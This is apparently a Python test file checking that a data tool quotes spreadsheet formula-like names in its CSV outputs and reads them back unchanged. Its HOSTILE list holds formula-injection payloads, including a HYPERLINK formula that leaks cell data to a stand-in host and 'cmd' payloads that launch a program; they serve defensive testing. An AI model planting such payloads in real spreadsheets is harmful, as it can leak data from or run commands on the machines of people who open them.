"""Names that a spreadsheet would run as formulas are quoted, and read back as they were."""

from __future__ import annotations

import io

import networkx as nx
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from thalweg._spreadsheet import guarded, unguarded
from thalweg.adapters.pieces import read_table
from thalweg.cli import main

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "＝1+1",
    "'=already",
    "''=twice",
]
HARMLESS = ["liver", "-3", "+4.5e-3", "a=b", "o'clock", "'tis", "", "2024-03-01"]


def test_hostile_names_cannot_begin_a_formula():
    for name in HOSTILE:
        assert guarded(name) == "'" + name
        assert unguarded(guarded(name)) == name
    for name in HARMLESS:
        assert guarded(name) == name
        assert unguarded(name) == name


@given(st.text(max_size=12))
def test_every_name_comes_back(name):
    assert unguarded(guarded(name)) == name
    assert guarded(name)[:1] not in ("=", "@", "\t", "\r")


def test_through_the_command_line_and_back(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    names = ["plain", *HOSTILE[:4]]
    graph = nx.Graph()
    graph.add_edges_from(zip(names[:-1], names[1:], strict=True))
    nx.write_graphml(graph, "g.graphml")
    rng = np.random.default_rng(0)
    rows = [
        (float(t), name, int(n))
        for t in range(3)
        for name, n in zip(names, rng.multinomial(500, np.ones(5) / 5), strict=True)
    ]
    pd.DataFrame(rows, columns=["time", "state", "count"]).to_csv("seen.csv", index=False)
    with pytest.raises(SystemExit) as ended:
        main(["fit", "seen.csv", "--graph", "g.graphml", "--method", "weak", "--out", "out"])
    assert ended.value.code == 0
    capsys.readouterr()
    with pytest.raises(SystemExit):
        main(["simulate", "out/model.thalweg", "--times", "0,1,2", "--out", "drawn.csv"])
    with pytest.raises(SystemExit):
        main(["forecast", "out/model.thalweg", "--times", "0,1"])
    printed = capsys.readouterr().out.split("written to drawn.csv\n")[1]
    for text in (
        (tmp_path / "out/states.csv").read_text(),
        (tmp_path / "out/forecast.csv").read_text(),
        (tmp_path / "drawn.csv").read_text(),
        printed,
    ):
        raw = pd.read_csv(io.StringIO(text), dtype=str)
        assert not raw["state"].str.startswith(("=", "+", "-", "@")).any()
    assert set(read_table(tmp_path / "out/states.csv")["state"]) == set(names)
    # What was drawn is read again, by the names that the graph has.
    with pytest.raises(SystemExit) as ended:
        main(["check", "drawn.csv", "--graph", "g.graphml", "--json"])
    assert ended.value.code == 0
